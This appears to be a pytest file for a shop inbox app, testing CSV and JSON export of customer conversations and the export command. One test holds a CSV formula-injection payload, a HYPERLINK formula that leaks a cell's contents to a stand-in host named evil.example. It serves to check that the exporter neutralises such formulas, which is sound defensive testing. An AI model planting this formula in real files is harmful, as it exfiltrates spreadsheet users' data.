"""Exporting conversations, as a shop owner does it: the real store, the demo shop, real files."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from app.cli.export import main as cli_main
from app.core import export as export_module
from app.core.export import (
    CSV_COLUMNS,
    ExportError,
    ExportFormat,
    export_inbox,
    format_for,
    neutralise_cell,
)
from app.core.models import Folder, OutboxState, SentimentLabel
from app.core.paths import resolve_paths
from app.core.ports import ThreadQuery
from app.storage.demo import load_demo

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / "resources" / "demo" / "demo.json"
EVERYTHING = ThreadQuery(folder=Folder.ALL)


@pytest.fixture
def demo_store(store):
    load_demo(store, DEMO)
    return store


def all_posts(store, query: ThreadQuery = EVERYTHING) -> list:
    threads = store.list_threads(query, 0, 100_000)
    return [p for row in threads for p in store.thread_posts(row.id)]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".part"))


# ---------------------------------------------------------------- CSV


def test_export_everything_as_csv_gives_one_row_per_post(demo_store, tmp_path):
    target = tmp_path / "everything.csv"
    seen: list[tuple[int, int]] = []

    result = export_inbox(
        demo_store, target, progress=lambda d, t: seen.append((d, t)), page_size=7
    )

    posts = all_posts(demo_store)
    rows = read_csv(target)
    assert not result.cancelled and result.format is ExportFormat.CSV
    assert len(rows) == len(posts) == result.posts
    assert result.threads == demo_store.count_threads(EVERYTHING)
    assert tuple(rows[0]) == CSV_COLUMNS
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    assert sorted(int(r["thread_id"]) for r in rows) == sorted(p.thread_id for p in posts)
    assert {r["network"] for r in rows} == {"mastodon", "bluesky"}
    assert {r["is_own"] for r in rows} == {"yes", "no"}
    for row in rows:
        float(row["compound"])  # a real number a spreadsheet can sum
        assert row["posted_at"].endswith("Z")
    assert any("🎂" in r["text"] for r in rows)  # emoji survive
    assert seen[0] == (0, result.threads) and seen[-1] == (result.threads, result.threads)
    assert len(seen) > 3  # progress arrived page by page
    assert leftovers(tmp_path) == []


def test_corrected_label_wins_in_the_csv(demo_store, tmp_path):
    post = next(p for p in all_posts(demo_store) if p.label is SentimentLabel.NEGATIVE)
    demo_store.correct_label(post.id, SentimentLabel.POSITIVE)

    export_inbox(demo_store, tmp_path / "out.csv")

    rows = [r for r in read_csv(tmp_path / "out.csv") if r["text"].lstrip("'") == post.post.text]
    assert [r["sentiment"] for r in rows] == ["praise"]  # the window's word


def test_searching_cake_exports_only_the_matching_conversations(demo_store, tmp_path):
    query = ThreadQuery(search="cake")
    expected = {row.id for row in demo_store.list_threads(query, 0, 1000)}
    assert 0 < len(expected) < demo_store.count_threads(EVERYTHING)

    result = export_inbox(demo_store, tmp_path / "cake.csv", query)

    rows = read_csv(tmp_path / "cake.csv")
    by_thread: dict[int, list[str]] = {}
    for row in rows:
        by_thread.setdefault(int(row["thread_id"]), []).append(row["text"].lower())
    assert set(by_thread) == expected and result.threads == len(expected)
    for texts in by_thread.values():
        assert any("cake" in text for text in texts)


def test_a_formula_in_a_post_is_neutralised(
    store, shop_account, make_post, keyword_score, tmp_path
):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a refund")'
    store.ingest(
        shop_account.id,
        [
            make_post("1", evil, author="mallory", url="https://town.example/@m/1"),
            make_post("2", "-2+3 is my order number", author="ann", minutes=1),
            make_post("3", "@cornerbakery thanks!", author="bob", minutes=2),
        ],
        keyword_score,
    )

    export_inbox(store, tmp_path / "out.csv")

    texts = {r["text"] for r in read_csv(tmp_path / "out.csv")}
    assert "'" + evil in texts
    assert "'-2+3 is my order number" in texts
    assert "'@cornerbakery thanks!" in texts
    raw = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert ',"=HYPERLINK' not in raw and ",=HYPERLINK" not in raw


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        ("nul\x00byte", "nulbyte"),
    ],
)
def test_neutralise_cell(cell, safe):
    assert neutralise_cell(cell) == safe


# ---------------------------------------------------------------- JSON


def test_json_has_threads_with_posts_replies_and_private_notes(demo_store, tmp_path):
    posts = all_posts(demo_store)
    customer = next(p for p in posts if not p.is_own)
    contact = demo_store.contact_for_post(customer.id)
    demo_store.set_contact_note(contact.id, "Prefers pickup after 3pm. Nut allergy!")
    queued = demo_store.enqueue_reply(
        customer.thread_id, customer.post.remote_id, "We're on it, sorry!", "key-1"
    )
    failed = demo_store.enqueue_reply(
        customer.thread_id, customer.post.remote_id, "Second try", "key-2"
    )
    demo_store.mark_sending(failed.id)
    demo_store.mark_failed(failed.id, "The server could not be reached.")

    result = export_inbox(demo_store, tmp_path / "all.json")

    data = json.loads((tmp_path / "all.json").read_text(encoding="utf-8"))
    assert data["format"] == "shopkeep-export" and data["query"] == {"folder": "all"}
    assert len(data["threads"]) == data["thread_count"] == result.threads
    assert sum(len(t["posts"]) for t in data["threads"]) == len(posts) == data["post_count"]
    thread = next(t for t in data["threads"] if t["id"] == customer.thread_id)
    assert {
        "handle": contact.handle,
        "note": "Prefers pickup after 3pm. Nut allergy!",
    }.items() <= next(c for c in thread["customers"] if c["contact_id"] == contact.id).items()
    outbox = {r["text"]: r for r in thread["replies"] if r["source"] == "outbox"}
    assert outbox["We're on it, sorry!"]["state"] == OutboxState.QUEUED.value
    assert outbox["Second try"]["state"] == "failed"
    assert outbox["Second try"]["last_error"] == "The server could not be reached."
    assert queued.id  # the queued item is the one above
    # the shop's own posts are replies too, marked sent
    own = [t for t in data["threads"] if any(p["is_own"] for p in t["posts"])]
    assert own, "the demo shop answered some threads"
    for t in own:
        sent = [r for r in t["replies"] if r["source"] == "post"]
        assert len(sent) == sum(p["is_own"] for p in t["posts"])
        assert {r["state"] for r in sent} <= {"sent", "deleted"}
    first = data["threads"][0]["posts"][0]
    assert {"label", "scored_label", "corrected_label", "compound", "reasons"} <= set(
        first["sentiment"]
    )


def test_an_empty_result_is_still_valid_json(demo_store, tmp_path):
    result = export_inbox(demo_store, tmp_path / "none.json", ThreadQuery(search="zzzqqqxxnothing"))

    data = json.loads((tmp_path / "none.json").read_text(encoding="utf-8"))
    assert data["threads"] == [] and result.threads == 0
    assert data["query"]["search"] == "zzzqqqxxnothing"


# ---------------------------------------------------------------- all or nothing


def test_cancel_leaves_no_file_and_keeps_an_older_one(demo_store, tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("last week's export\n", encoding="utf-8")
    cancel = threading.Event()

    def progress(done: int, total: int) -> None:
        if done >= 5:
            cancel.set()

    result = export_inbox(demo_store, target, progress=progress, cancel=cancel, page_size=5)

    assert result.cancelled and result.threads == 5
    assert target.read_text(encoding="utf-8") == "last week's export\n"
    assert leftovers(tmp_path) == []

    fresh = tmp_path / "fresh.json"
    cancel.set()
    assert export_inbox(demo_store, fresh, cancel=cancel).cancelled
    assert not fresh.exists() and leftovers(tmp_path) == []


def test_a_full_disk_says_so_and_leaves_no_half_file(demo_store, tmp_path, monkeypatch):
    target = tmp_path / "out.csv"
    target.write_text("older\n", encoding="utf-8")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(export_module.os, "fsync", full)
    with pytest.raises(ExportError) as caught:
        export_inbox(demo_store, target)

    assert "disk is full" in caught.value.user_message
    assert target.read_text(encoding="utf-8") == "older\n"
    assert leftovers(tmp_path) == []


def test_a_store_failure_midway_leaves_no_file(demo_store, tmp_path):
    class Failing:
        def __init__(self, inner) -> None:
            self.inner = inner
            self.calls = 0

        def __getattr__(self, name: str):
            return getattr(self.inner, name)

        def thread_posts(self, thread_id: int):
            self.calls += 1
            if self.calls > 3:
                raise RuntimeError("boom")
            return self.inner.thread_posts(thread_id)

        def posts_for_threads(self, thread_ids):
            self.calls += len(thread_ids)
            if self.calls > 3:
                raise RuntimeError("boom")
            return self.inner.posts_for_threads(thread_ids)

    with pytest.raises(RuntimeError):
        export_inbox(Failing(demo_store), tmp_path / "out.json", page_size=2)
    assert list(tmp_path.glob("out.json*")) == [] and leftovers(tmp_path) == []


class PerThreadOnly:
    """The store without posts_for_threads: the export falls back to thread_posts."""

    def __init__(self, inner) -> None:
        self.inner = inner
        self.thread_posts_calls = 0

    def __getattr__(self, name: str):
        if name == "posts_for_threads":
            raise AttributeError(name)
        return getattr(self.inner, name)

    def thread_posts(self, thread_id: int):
        self.thread_posts_calls += 1
        return self.inner.thread_posts(thread_id)


@pytest.mark.parametrize("suffix", ["csv", "json"])
def test_a_store_without_page_reads_gives_the_same_file(demo_store, tmp_path, suffix):
    fast, slow = tmp_path / f"fast.{suffix}", tmp_path / f"slow.{suffix}"
    plain = PerThreadOnly(demo_store)
    export_inbox(demo_store, fast, page_size=3)
    export_inbox(plain, slow, page_size=3)

    def body(path: Path) -> str:
        text = path.read_text(encoding="utf-8-sig")
        return "\n".join(line for line in text.splitlines() if '"exported_at"' not in line)

    assert plain.thread_posts_calls == demo_store.count_threads(EVERYTHING) > 3
    assert body(fast) == body(slow)


def test_a_missing_folder_is_a_plain_error(demo_store, tmp_path):
    with pytest.raises(ExportError) as caught:
        export_inbox(demo_store, tmp_path / "nope" / "out.csv")
    assert "does not exist" in caught.value.user_message


def test_format_comes_from_the_file_name():
    assert format_for("a.CSV") is ExportFormat.CSV
    assert format_for("b.json") is ExportFormat.JSON
    with pytest.raises(ExportError) as caught:
        format_for("c.xlsx")
    assert "c.xlsx is neither" in caught.value.user_message


# ---------------------------------------------------------------- the command


def run_export(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "SHOPKEEP_DATA_DIR"}
    return subprocess.run(
        [sys.executable, "-m", "app", "--data-dir", str(data_dir), "export", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=90,
        stdin=subprocess.DEVNULL,
    )


def test_the_export_command_writes_the_file(demo_store, tmp_path):
    data_dir = tmp_path / "data"  # where the `store` fixture keeps its database
    demo_store.close()
    out = tmp_path / "negative.csv"

    result = run_export(data_dir, str(out), "--folder", "negative", "--network", "mastodon")

    assert result.returncode == 0, result.stderr
    assert "Exported" in result.stdout and str(out) in result.stdout
    assert "Traceback" not in result.stderr
    rows = read_csv(out)
    assert rows and {r["network"] for r in rows} == {"mastodon"}


def test_the_export_command_says_plainly_when_the_folder_is_unwritable(demo_store, tmp_path):
    data_dir = tmp_path / "data"
    demo_store.close()
    not_a_folder = tmp_path / "notes.txt"
    not_a_folder.write_text("x", encoding="utf-8")

    missing = run_export(data_dir, str(tmp_path / "missing" / "out.csv"))
    blocked = run_export(data_dir, str(not_a_folder / "out.json"))

    for result in (missing, blocked):
        assert result.returncode == 1
        assert "Traceback" not in result.stderr
        assert result.stderr.startswith("shopkeep export: ")
        assert len(result.stderr.strip().splitlines()) == 1
    assert "does not exist" in missing.stderr
    assert "is not a folder" in blocked.stderr


def test_the_command_checks_its_words_before_doing_anything(demo_store, tmp_path):
    paths = resolve_paths(tmp_path / "data")
    demo_store.close()
    err = io.StringIO()
    for argv in (
        ["out.xlsx"],
        ["out.csv", "--since", "31/05/2024"],
        ["out.csv", "--folder", "spam"],
        ["out.csv", "--account", "999"],
        ["out.csv", "--since", "2024-06-01", "--until", "2024-05-01"],
    ):
        assert (
            cli_main([str(tmp_path / argv[0]), *argv[1:]], paths, out=io.StringIO(), err=err) == 1
        ), argv
    assert "Traceback" not in err.getvalue()
    assert "there is no account 999" in err.getvalue()
    assert not list(tmp_path.glob("out.*"))


def test_the_command_filters_by_day_and_data_dir_after_out(demo_store, tmp_path):
    demo_store.close()
    out = tmp_path / "old.json"
    elsewhere = resolve_paths(tmp_path / "elsewhere")
    code = cli_main(
        [str(out), "--until", "2001-01-01", "--data-dir", str(tmp_path / "data")],
        elsewhere,
        out=io.StringIO(),
        err=io.StringIO(),
    )
    assert code == 0
    assert json.loads(out.read_text(encoding="utf-8"))["threads"] == []
